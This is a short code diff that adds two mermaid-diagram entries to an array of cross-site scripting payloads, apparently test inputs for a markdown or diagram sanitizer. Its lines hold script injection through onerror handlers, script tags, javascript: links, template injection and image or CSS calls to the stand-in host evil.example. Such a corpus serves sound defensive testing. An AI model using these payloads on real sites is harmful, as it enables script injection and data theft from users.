@@ -47,6 +47,8 @@ const others = [
   `![x](https://evil.example/steal.png?${run})`,
   `{{constructor.constructor('${run}')()}}`,
   `\${${run}}`,
+  `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${run}>"] --> B[</text><script>${run}</script>]\n  click A "javascript:${run}"\n\`\`\``,
+  `\`\`\`mermaid\ngraph TD\n  A --> B\n  style A fill:url(https://evil.example/x),stroke:red"/><script>${run}</script>\n\`\`\``,
   `\u202Etpircs<\u202C<script>${run}</script>`,
   `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
 ]
